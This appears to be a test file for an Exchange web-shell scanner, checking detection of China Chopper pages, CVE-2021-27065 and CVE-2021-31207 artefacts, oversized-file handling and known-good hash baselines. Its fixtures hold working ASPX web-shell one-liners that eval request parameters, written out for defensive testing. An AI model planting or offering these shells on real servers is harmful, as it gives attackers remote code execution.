import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { before, describe, test } from 'node:test'
import { corpusPath, corpusSkip, REPO_ROOT } from '../../test/helpers/corpus.ts'
import { tmpDir } from '../../test/helpers/tmp.ts'
import { createBaseline } from '../content/baseline/create-baseline.ts'
import { loadBaselines } from '../content/baseline/load-baseline.ts'
import { loadHeuristics } from '../content/webfile/load-heuristics.ts'
import { type CompiledYara, loadYara } from '../content/yara/load-yara.ts'
import { emptyBaseline, folderKey } from '../detect/webfile/baseline-check.ts'
import type { Finding, ItemError } from '../shared/types.ts'
import { severityRank } from '../shared/types.ts'
import type { Artefact } from '../sources/artefact.ts'
import { fileArtefact } from './scan-files.test-helper.ts'
import { type FileScanContext, type IocFileInput, scanWebFiles } from './scan-files.ts'

const CONTENT = join(REPO_ROOT, 'content')
const CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'
let yara: CompiledYara
let heuristics: ReturnType<typeof loadHeuristics>

before(() => {
  yara = loadYara(CONTENT)
  heuristics = loadHeuristics(CONTENT)
})

function ctx(over: Partial<FileScanContext> = {}): FileScanContext {
  return { yara, heuristics, baseline: emptyBaseline(), maxFileBytes: 8 * 1024 * 1024, ...over }
}

async function scan(artefacts: Artefact[], c: FileScanContext) {
  const findings: Finding[] = []
  const errors: ItemError[] = []
  const stats = await scanWebFiles(artefacts, c, {
    finding: (f) => findings.push(f),
    error: (e) => errors.push(e),
  })
  return { findings, errors, stats }
}

function write(dir: string, rel: string, data: string | Uint8Array): string {
  const p = join(dir, rel)
  mkdirSync(join(p, '..'), { recursive: true })
  writeFileSync(p, data)
  return p
}

describe('scanWebFiles on synthetic files', () => {
  test('finds a UTF-16LE (BOM) and a UTF-16BE (no BOM) China Chopper page', async () => {
    const d = tmpDir()
    const le = write(
      d,
      'le.aspx',
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(CHOPPER, 'utf16le')]),
    )
    const be = Buffer.from(CHOPPER, 'utf16le').swap16()
    const bep = write(d, 'be.aspx', be)
    const { findings } = await scan(
      [fileArtefact(le, 'le.aspx'), fileArtefact(bep, 'be.aspx')],
      ctx(),
    )
    assert.equal(findings.length, 2)
    for (const f of findings) {
      assert.ok(severityRank(f.severity) >= severityRank('high'), `${f.source.path} ${f.severity}`)
      assert.equal(f.outcome, 'success')
      assert.ok(f.reasons?.some((r) => r.includes('exh-web-eval-request-input')))
      assert.match(f.fields?.encoding ?? '', /utf-16/)
    }
  })

  test('flags PST- and DER-headed .aspx files, and the OAB ExternalUrl dump as CVE-2021-27065', async () => {
    const d = tmpDir()
    const pst = write(d, 'a.aspx', Buffer.concat([Buffer.from('!BDN'), Buffer.alloc(64, 7)]))
    const der = write(d, 'b.aspx', Buffer.from([0x30, 0x82, 0x04, 0xa2, 0x02, 0x01, 0x00]))
    const oab = write(
      d,
      'c.aspx',
      `Name        : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>\r\n`,
    )
    const { findings } = await scan(
      [fileArtefact(pst, 'a.aspx'), fileArtefact(der, 'b.aspx'), fileArtefact(oab, 'c.aspx')],
      ctx(),
    )
    const by = new Map(findings.map((f) => [f.source.path, f]))
    // The PST header is the mailbox-export write (CVE-2021-31207) and only that; a certificate
    // request under a page name shows no particular CVE.
    assert.equal(by.get('a.aspx')?.rule, 'exh-web-pst-headed-script')
    assert.deepEqual(by.get('a.aspx')?.cves, ['CVE-2021-31207'])
    assert.equal(by.get('b.aspx')?.rule, 'exh-web-binary-headed-script')
    assert.deepEqual(by.get('b.aspx')?.cves, [])
    assert.equal(by.get('c.aspx')?.severity, 'critical')
    assert.deepEqual(by.get('c.aspx')?.cves, ['CVE-2021-27065'])
  })

  test('an oversized page is scanned in part: head hash, name/path IOCs, a medium finding and a note', async () => {
    const d = tmpDir()
    const bytes = Buffer.alloc(4096, 0x41)
    const big = write(d, 'big.aspx', bytes)
    const shell = write(d, 'x.aspx', CHOPPER)
    const seen: IocFileInput[] = []
    const { findings, errors, stats } = await scan(
      [fileArtefact(big, 'big.aspx'), fileArtefact(shell, 'x.aspx')],
      ctx({ maxFileBytes: 1024, iocFile: (file) => void seen.push(file) }),
    )
    assert.deepEqual(
      errors.map((e) => [e.code, e.path]),
      [['EXH_ERR_FILE_TOO_LARGE', 'big.aspx']],
    )
    assert.match(errors[0]?.message ?? '', /its first 1024 and last 1024 bytes were scanned/)
    const f = findings.find((x) => x.source.path === 'big.aspx')
    assert.equal(f?.rule, 'exh-web-oversized-server-page')
    assert.equal(f?.severity, 'medium')
    // The hash is of the first bytes only, labelled so; no whole-file hash is claimed.
    const head = createHash('sha256').update(bytes.subarray(0, 1024)).digest('hex')
    assert.deepEqual(f?.file, {
      size: 4096,
      headSha256: head,
      headBytes: 1024,
      mtime: f?.file?.mtime,
    })
    assert.equal(f?.fields?.headSha256, `SHA-256 of the first 1024 bytes: ${head}`)
    assert.equal(f?.fields?.sha256, undefined)
    assert.ok(
      f?.reasons?.some((r) => r.includes('its first 1024 and last 1024 bytes were scanned')),
    )
    // Name and path indicators are still checked, hash indicators are not (there is no file hash).
    const input = seen.find((x) => x.path === 'big.aspx')
    assert.deepEqual(input, { path: 'big.aspx', size: 4096 })
    assert.deepEqual(findings.map((x) => x.source.path).sort(), ['big.aspx', 'x.aspx'])
    assert.equal(stats.files, 2)
  })

  test('a shell padded behind its code is still found in the head of an oversized page', async () => {
    const d = tmpDir()
    const padded = write(
      d,
      'p.aspx',
      Buffer.concat([Buffer.from(CHOPPER), Buffer.alloc(8192, 0x20)]),
    )
    const { findings } = await scan([fileArtefact(padded, 'p.aspx')], ctx({ maxFileBytes: 2048 }))
    assert.equal(findings.length, 1)
    assert.ok(severityRank(findings[0]?.severity ?? 'info') >= severityRank('high'))
    const rules = findings[0]?.fields?.rules ?? ''
    assert.match(rules, /exh-web-eval-request-input/)
    assert.match(rules, /exh-web-oversized-server-page/)
  })

  test('a shell padded before its code is found in the tail of an oversized page', async () => {
    const d = tmpDir()
    const padded = write(
      d,
      't.aspx',
      Buffer.concat([Buffer.alloc(8192, 0x20), Buffer.from(CHOPPER)]),
    )
    const { findings } = await scan([fileArtefact(padded, 't.aspx')], ctx({ maxFileBytes: 2048 }))
    assert.match(findings[0]?.fields?.rules ?? '', /exh-web-eval-request-input/)
    // Only the head is hashed: the SHA-256 of 2048 blanks.
    const blanks = createHash('sha256').update(Buffer.alloc(2048, 0x20)).digest('hex')
    assert.equal(findings[0]?.file?.headSha256, blanks)
  })

  test('an oversized file that is not a server page leaves only the note', async () => {
    const d = tmpDir()
    const js = write(d, 'app.js', Buffer.alloc(4096, 0x20))
    const { findings, errors } = await scan(
      [fileArtefact(js, 'app.js')],
      ctx({ maxFileBytes: 1024 }),
    )
    assert.deepEqual(findings, [])
    assert.deepEqual(
      errors.map((e) => e.code),
      ['EXH_ERR_FILE_TOO_LARGE'],
    )
  })

  test('a known-good hash stays silent even when a heuristic fires; facts and URL path are reported', async () => {
    const install = tmpDir()
    write(install, 'FrontEnd/HttpProxy/owa/auth/logon.aspx', CHOPPER)
    const text = await createBaseline(install, { product: 'Test', build: '1.0' })
    assert.match(text, /^# exhunt-baseline\/1\n# product: Test\n# build: 1\.0\n/)
    const blFile = write(tmpDir(), 'test.sha256', text)
    const { baseline, errors } = loadBaselines([blFile])
    assert.deepEqual(errors, [])
    const evid = tmpDir()
    const same = write(evid, 'same.aspx', CHOPPER)
    const other = write(evid, 'other.aspx', `${CHOPPER} `)
    const win =
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\'
    const { findings } = await scan(
      [
        fileArtefact(same, 'same.aspx', `${win}logon.aspx`),
        fileArtefact(other, 'other.aspx', `${win}logon2.aspx`),
      ],
      ctx({ baseline }),
    )
    assert.deepEqual(
      findings.map((f) => f.source.path),
      ['other.aspx'],
    )
    const f = findings[0] as Finding
    assert.ok(f.indicators.paths.includes('/owa/auth/logon2.aspx'))
    assert.equal(f.file?.size, CHOPPER.length + 1)
    assert.match(f.file?.sha256 ?? '', /^[0-9a-f]{64}$/)
    assert.ok(f.file?.mtime)
  })
})

describe('scanWebFiles with the NCC Group Exchange baselines', { skip: corpusSkip }, () => {
  test('a look-alike of RedirSuiteServiceProxy.aspx is medium; an unknown page is low review', async () => {
    const { baseline } = loadBaselines([
      corpusPath('webshells/benign/exchange-known-good-hashes_nccgroup'),
    ])
    assert.ok(baseline.sets.length >= 3)
    const d = tmpDir()
    const page = '<%@ Page Language="C#" %><html><body>hello</body></html>'
    const a = write(d, 'RedirSuiteServerProxy.aspx', page)
    const b = write(d, 'report.aspx', page)
    const win =
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\'
    const { findings } = await scan(
      [
        fileArtefact(a, 'a', `${win}RedirSuiteServerProxy.aspx`),
        fileArtefact(b, 'b', `${win}report.aspx`),
      ],
      ctx({ baseline }),
    )
    const by = new Map(findings.map((f) => [f.source.path, f]))
    assert.equal(by.get('a')?.rule, 'exh-web-lookalike-name')
    assert.equal(by.get('a')?.severity, 'medium')
    assert.match(by.get('a')?.reasons?.join(' ') ?? '', /redirsuiteserviceproxy\.aspx/)
    assert.equal(by.get('b')?.rule, 'exh-web-unknown-file')
    assert.equal(by.get('b')?.severity, 'low')
  })

  test('a look-alike counts only next to the file it imitates, never in an ordinary site', async () => {
    const { baseline } = loadBaselines([
      corpusPath('webshells/benign/exchange-known-good-hashes_nccgroup'),
    ])
    const d = tmpDir()
    const page = '<%@ Page Language="C#" %><html><body>hello</body></html>'
    const x = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\'
    const cases: [string, string][] = [
      ['forum', 'C:\\inetpub\\wwwroot\\forum\\login.aspx'],
      ['skin', 'C:\\inetpub\\wwwroot\\blog\\Skins\\Blue\\Controls\\Contact.ascx'],
      ['elsewhere', `${x}ecp\\RedirSuiteServerProxy.aspx`],
      ['nextTo', `${x}owa\\auth\\logom.aspx`],
    ]
    const { findings } = await scan(
      cases.map(([id, win]) => fileArtefact(write(d, `${id}.aspx`, page), id, win)),
      ctx({ baseline }),
    )
    const by = new Map(findings.map((f) => [f.source.path, f]))
    assert.equal(by.get('forum'), undefined)
    assert.equal(by.get('skin'), undefined)
    assert.equal(by.get('elsewhere')?.rule, 'exh-web-unknown-file')
    assert.equal(by.get('nextTo')?.rule, 'exh-web-lookalike-name')
    assert.match(by.get('nextTo')?.reasons?.join(' ') ?? '', /logon\.aspx/)
  })
})

describe('baseline folder keys', () => {
  test('build-numbered folders compare whatever the build', () => {
    assert.equal(folderKey('frontend/httpproxy/owa/auth/logon.aspx'), 'frontend/httpproxy/owa/auth')
    assert.equal(
      folderKey('frontend/httpproxy/owa/auth/15.2.1118.7/themes/resources/x.gif'),
      'frontend/httpproxy/owa/auth/*/themes/resources',
    )
  })
})
